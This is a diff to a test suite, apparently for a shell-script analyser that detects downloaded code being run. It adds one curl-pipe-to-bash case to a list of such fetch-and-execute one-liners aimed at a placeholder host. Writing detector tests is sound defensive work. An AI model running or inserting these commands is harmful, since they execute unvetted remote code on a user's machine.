@@ -17,6 +17,7 @@ describe('a download that is run is found', () => {
     '. <(curl -s https://x.example/i.sh)',
     'bash <<< "$(curl https://x.example/i.sh)"',
     'curl https://x.example/i.py | python3 -',
+    'curl https://x.example/i.sh | bash /dev/stdin 1.2.3',
     'if true; then ( { curl https://x.example/i.sh; } | sh ); fi',
     'sh -c \'sh -c "curl https://x.example/i.sh | sh"\'',
     "eval 'curl https://x.example/i.sh | sh'",
@@ -86,7 +87,7 @@ describe('calls to the network', () => {
 });
 
 describe('programs that decide themselves what they run', () => {
-  test.for(['eval "$X"', 'sh -c "$X"', 'decode < x | sh', 'echo "unclosed', `${'('.repeat(5000)}`])(
+  test.for(['eval "$X"', 'sh -c "$X"', 'decode < x | sh', 'echo "unclosed', '('.repeat(5000)])(
     'are undecided: %s',
     (script) => {
       expect(judgeScript(script).map(([rule]) => rule)).toContain('undecided');
